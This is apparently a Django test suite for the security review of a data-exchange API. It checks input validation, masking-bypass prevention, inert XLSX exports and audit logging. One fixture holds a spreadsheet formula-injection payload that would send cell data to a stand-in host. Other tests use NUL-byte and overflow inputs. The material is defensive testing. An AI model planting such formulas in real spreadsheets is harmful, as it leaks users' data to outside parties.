"""Security review (issue 7): bad input is a clear 400 on both databases, never a 500; masked items
are not an oracle; downloads are complete, inert files and fully audited."""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from django.utils import timezone

from accounts.roles import Role
from catalog.models import DataType, IdentifierKind, Sensitivity
from core.models import AuditEvent
from exchange.models import Grant

from .factories import published_resource
from .test_reading import PEOPLE, _get, _load

pytestmark = pytest.mark.django_db

ITEMS = [
    ("bh", "编号", DataType.STRING, IdentifierKind.NONE, Sensitivity.INTERNAL, True),
    ("n", "数量", DataType.INTEGER, IdentifierKind.NONE, Sensitivity.INTERNAL, False),
    ("amt", "金额", DataType.DECIMAL, IdentifierKind.NONE, Sensitivity.INTERNAL, False),
    ("note", "备注", DataType.STRING, IdentifierKind.NONE, Sensitivity.INTERNAL, False),
]


@pytest.fixture
def typed(make_unit, make_user):
    provider = make_unit()
    officer = make_user(unit=provider, roles=[Role.DATA_OFFICER])
    res = published_resource(provider=provider, items=ITEMS)
    _load(
        res,
        officer,
        [
            {"bh": "A1", "n": 5, "amt": "1", "note": '=HYPERLINK("http://x/?"&A2,"点此")'},
            {"bh": "A2", "n": 7, "amt": "2", "note": "第一行\x01第二行\x0b"},
        ],
    )
    consumer = make_user(unit=make_unit(), roles=[Role.UNIT_USER])
    today = timezone.localdate()
    Grant.objects.create(
        resource=res,
        consumer=consumer.unit,
        items=[c[0] for c in ITEMS],
        purpose_category="data_check",
        purpose="核对数据",
        channels=["online_query", "batch_download", "system_feed"],
        valid_from=today,
        valid_to=today + timedelta(days=3),
    )
    return res, consumer


def _body(resp) -> bytes:
    return b"".join(resp.streaming_content) if resp.streaming else resp.content


@pytest.mark.parametrize(
    "query",
    [
        "records?after=99999999999999999999999",
        "records?after=-99999999999999999999999",
        "records?n=99999999999999999999999",
        "records?n__gte=99999999999999999999999",
        "records?n__in=1,99999999999999999999999",
        "records?amt=1e999999999",
        "records?amt__lte=1e-999999999",
        "records?note=a%00b",
        "records?note__in=a,%00",
        "download?note=%00",
        "changes?since=1%00",
    ],
)
def test_out_of_range_numbers_and_nul_bytes_are_a_clear_400(api, typed, query):
    res, user = typed
    api.raise_request_exception = False
    resp = _get(api, user, f"/api/v1/exchange/{res.code}/{query}", HTTP_X_PURPOSE="data_check")
    assert resp.status_code == 400, _body(resp)[:300]
    assert set(resp.json()["error"]) == {"code", "message", "details"}


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/exchange/%00/records",
        "/api/v1/exchange/%00/changes",
        "/api/v1/exchange/grants/?resource=%00",
        "/api/v1/exchange/grants/?status=%00",
        "/api/v1/exchange/requests/?q=%00",
        "/api/v1/exchange/requests/?status=%00",
        "/api/v1/exchange/deliveries/?status=%00",
        "/api/v1/exchange/usage/?resource=%00",
    ],
)
def test_nul_bytes_anywhere_in_the_exchange_api_are_a_clear_400(api, world, center, make_user, path):
    api.raise_request_exception = False
    for user in (world["consumer"], make_user(unit=center, roles=[Role.CENTER_ADMIN])):
        resp = _get(api, user, path, HTTP_X_PURPOSE="data_check")
        assert resp.status_code == 400, _body(resp)[:300]


@pytest.mark.parametrize("path", ["/exchange/grants/?status=%00", "/exchange/requests/?status=%00"])
def test_nul_bytes_in_exchange_pages_are_not_a_server_error(client, world, path):
    client.raise_request_exception = False
    client.force_login(world["consumer"])
    assert client.get(path).status_code == 400


def test_range_filters_on_masked_items_are_refused_they_would_reveal_the_masked_value(api, world):
    """csrq (出生日期) is sensitive and shown masked; ``csrq__gte=D&csrq__lte=D`` would tell the exact
    date back in a few calls (a masking bypass)."""
    res, user = world["resource"], world["consumer"]
    day = PEOPLE[0]["csrq"]
    resp = _get(
        api, user, f"/api/v1/exchange/{res.code}/records?csrq__gte={day}&csrq__lte={day}",
        HTTP_X_PURPOSE="data_check",
    )  # fmt: skip
    assert resp.status_code == 400 and "results" not in resp.json()
    world["grant"].allow_plain = True  # plain values granted: ranges are fine
    world["grant"].save()
    resp = _get(
        api, user, f"/api/v1/exchange/{res.code}/records?csrq__gte={day}&csrq__lte={day}",
        HTTP_X_PURPOSE="data_check",
    )  # fmt: skip
    assert resp.status_code == 200 and resp.json()["returned"] == 1


def test_xlsx_download_keeps_formulas_as_text_and_survives_control_characters(api, typed):
    from openpyxl import load_workbook

    res, user = typed
    resp = _get(api, user, f"/api/v1/exchange/{res.code}/download?format=xlsx", HTTP_X_PURPOSE="data_check")
    assert resp.status_code == 200
    wb = load_workbook(io.BytesIO(_body(resp)))
    rows = list(wb["data"].iter_rows(min_row=2))
    notes = {r[0].value: r[3] for r in rows}
    assert notes["A1"].data_type == "s" and notes["A1"].value.startswith("=HYPERLINK")
    assert notes["A2"].value == "第一行第二行"


def test_change_feed_with_limit_zero_does_not_claim_more(api, world):
    res, user = world["resource"], world["consumer"]
    first = _get(
        api, user, f"/api/v1/exchange/{res.code}/changes?since=0", HTTP_X_PURPOSE="data_check"
    ).json()
    resp = _get(
        api, user, f"/api/v1/exchange/{res.code}/changes?since={first['next']}&limit=0",
        HTTP_X_PURPOSE="data_check",
    )  # fmt: skip
    assert resp.json()["changes"] == [] and resp.json()["more"] is False


def test_a_finished_download_is_audited_with_the_rows_it_returned(api, world):
    res, user = world["resource"], world["consumer"]
    resp = _get(api, user, f"/api/v1/exchange/{res.code}/download?format=jsonl", HTTP_X_PURPOSE="data_check")
    _body(resp)
    download_id = resp["X-GovHub-Download-Id"]
    events = AuditEvent.objects.filter(details__download_id=download_id)
    rows = [e.details.get("rows") for e in events]
    assert len(PEOPLE) in rows, rows
    done = events.get(details__rows=len(PEOPLE))
    assert done.purpose == "data_check" and done.details["items"] == world["grant"].items
    assert done.details["grant"] == world["grant"].pk


def test_raw_identifiers_typed_as_filters_are_not_stored_in_the_audit_log(api, world):
    """Issue 7: "who accessed this record" without storing the raw identifiers in the log."""
    res, user = world["resource"], world["consumer"]
    sfzh = PEOPLE[0]["sfzh"]
    body = _get(
        api, user, f"/api/v1/exchange/{res.code}/records?sfzh={sfzh}", HTTP_X_PURPOSE="data_check"
    ).json()
    event = AuditEvent.objects.get(pk=body["audit_id"])
    assert sfzh not in str(event.details) and "sfzh" in event.details["filters"]


def test_decimal_filters_compare_numbers_on_both_databases(api, make_unit, make_user):
    """DESIGN rule 7: SQLite keeps decimals as text; ``amt__gte=9.5`` must still compare numbers."""
    items = [ITEMS[0], ITEMS[2]]
    provider = make_unit()
    res = published_resource(provider=provider, items=items)
    _load(res, make_user(unit=provider, roles=[Role.DATA_OFFICER]), [
        {"bh": "A", "amt": "9"}, {"bh": "B", "amt": "10"}, {"bh": "C", "amt": "100"},
    ])  # fmt: skip
    consumer = make_user(unit=make_unit(), roles=[Role.UNIT_USER])
    today = timezone.localdate()
    Grant.objects.create(
        resource=res, consumer=consumer.unit, items=["bh", "amt"], purpose_category="data_check",
        purpose="核对数据", channels=["online_query"], valid_from=today, valid_to=today + timedelta(days=3),
    )  # fmt: skip

    def found(query):
        resp = _get(
            api, consumer, f"/api/v1/exchange/{res.code}/records?{query}", HTTP_X_PURPOSE="data_check"
        )
        return [r["bh"] for r in resp.json()["results"]]

    assert found("amt__gte=9.5") == ["B", "C"]
    assert found("amt__lte=10&amt__gte=10") == ["B"]
    assert found("amt=10.0") == ["B"]
    assert found("amt__in=9.00,100") == ["A", "C"]
